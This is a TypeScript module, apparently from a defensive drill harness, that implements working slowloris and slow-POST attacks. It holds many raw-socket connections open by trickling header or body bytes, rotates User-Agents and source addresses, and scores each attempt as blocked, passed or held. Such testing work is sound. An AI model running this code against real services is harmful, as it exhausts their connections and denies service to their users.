// Slow attackers on raw sockets: slowloris trickles header bytes, slow POST trickles body bytes,
// each holding `connections` connections open and reopening those the target closes.
import net from 'node:net';
import type { Attack } from './scenario.ts';
import { AttackWindow, takeRequest, USER_AGENTS, type RunContext } from './context.ts';
import { sourceAddress } from './safety.ts';

/** Opening rate limit: a SYN storm would measure the kernel's backlog, not the target. */
const OPENS_PER_TICK = 20;
/** An endless header stream, one fake header line every 8 bytes. */
const HEADER_PATTERN = 'X-a: b\r\n';

interface SlowConn {
  socket: net.Socket;
  connected: boolean;
  settled: boolean;
  bodySent: number;
  patternPos: number;
}

export class SlowAttack extends AttackWindow {
  readonly conns = new Set<SlowConn>();
  readonly bodyChunk: string;
  trickleTimer: NodeJS.Timeout | undefined;
  opened = 0;

  constructor(ctx: RunContext, index: number, spec: Attack, block: number, runStartMs: number) {
    super(ctx, index, spec, block, runStartMs);
    this.bodyChunk = 'a'.repeat(spec.trickleBytes);
  }

  tick(nowMs: number): void {
    if (this.finished || nowMs < this.startMs) return;
    if (nowMs >= this.endMs || this.ctx.stopped) {
      this.end();
      return;
    }
    if (this.trickleTimer === undefined) {
      this.trickleTimer = setInterval(() => this.trickle(), this.spec.trickleIntervalMs);
      this.trickleTimer.unref();
    }
    for (let k = 0; k < OPENS_PER_TICK && this.conns.size < this.spec.connections; k++) this.open();
  }

  head(n: number): string {
    const ua = USER_AGENTS[n % USER_AGENTS.length];
    if (this.spec.kind === 'slowloris') {
      return (
        `GET ${this.spec.path}${this.spec.path.includes('?') ? '&' : '?'}c=${n} HTTP/1.1\r\nHost: ${this.ctx.hostHeader}\r\n` +
        `User-Agent: ${ua}\r\nx-drill-kind: attack\r\nAccept: */*\r\n`
      );
    }
    return (
      `POST ${this.spec.path} HTTP/1.1\r\nHost: ${this.ctx.hostHeader}\r\nUser-Agent: ${ua}\r\nx-drill-kind: attack\r\n` +
      `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${this.spec.bodyBytes}\r\n\r\n`
    );
  }

  open(): void {
    if (!takeRequest(this.ctx)) return;
    const n = this.opened++;
    const ctx = this.ctx;
    const socket = net.connect({
      host: ctx.target.address,
      port: ctx.target.port,
      localAddress: ctx.target.bindSources ? sourceAddress(this.block, n % this.spec.addresses) : undefined,
    });
    const conn: SlowConn = { socket, connected: false, settled: false, bodySent: 0, patternPos: 0 };
    this.conns.add(conn);
    ctx.rec.attackSent(this.index);
    socket.setNoDelay(true);
    socket.on('connect', () => {
      conn.connected = true;
      const s = this.ctx.rec.attacks[this.index]!;
      s.open++;
      if (s.open > s.maxOpen) s.maxOpen = s.open;
      socket.write(this.head(n));
    });
    socket.on('data', (chunk: Buffer) => {
      // Any answer ends the attempt: from the origin (X-Origin) it got through, else it was refused.
      if (!conn.settled) {
        conn.settled = true;
        const text = chunk.toString('latin1').toLowerCase();
        ctx.rec.attackOutcome(this.index, text.includes('\r\nx-origin:') ? 'passed' : 'blocked');
      }
      socket.destroy();
    });
    socket.on('error', () => {}); // reported through 'close'
    socket.on('close', () => {
      this.conns.delete(conn);
      if (conn.connected) ctx.rec.attacks[this.index]!.open--;
      if (!conn.settled && !ctx.closing && !this.finished) {
        conn.settled = true;
        ctx.rec.attackOutcome(this.index, 'blocked'); // closed, reset or refused by the target
      }
    });
  }

  trickle(): void {
    const bytes = this.spec.trickleBytes;
    for (const c of this.conns) {
      if (!c.connected || c.settled || c.socket.writableNeedDrain) continue;
      if (this.spec.kind === 'slowloris') {
        let out = '';
        for (let b = 0; b < bytes; b++) {
          out += HEADER_PATTERN[c.patternPos];
          c.patternPos = (c.patternPos + 1) % HEADER_PATTERN.length;
        }
        c.socket.write(out);
      } else if (c.bodySent < this.spec.bodyBytes) {
        const left = this.spec.bodyBytes - c.bodySent;
        c.socket.write(left >= bytes ? this.bodyChunk : this.bodyChunk.slice(0, left));
        c.bodySent += Math.min(bytes, left);
      }
    }
  }

  /** Attack over: connections still open are "held" (they tied up a slot, at the proxy or the origin). */
  end(): void {
    if (this.finished) return;
    this.finished = true;
    if (this.trickleTimer) clearInterval(this.trickleTimer);
    for (const c of this.conns) {
      if (!c.settled) {
        c.settled = true;
        if (c.connected) this.ctx.rec.attacks[this.index]!.held++;
        else this.ctx.rec.attackOutcome(this.index, 'timeout');
      }
      c.socket.destroy();
    }
  }

  async close(): Promise<void> {
    this.end();
  }
}
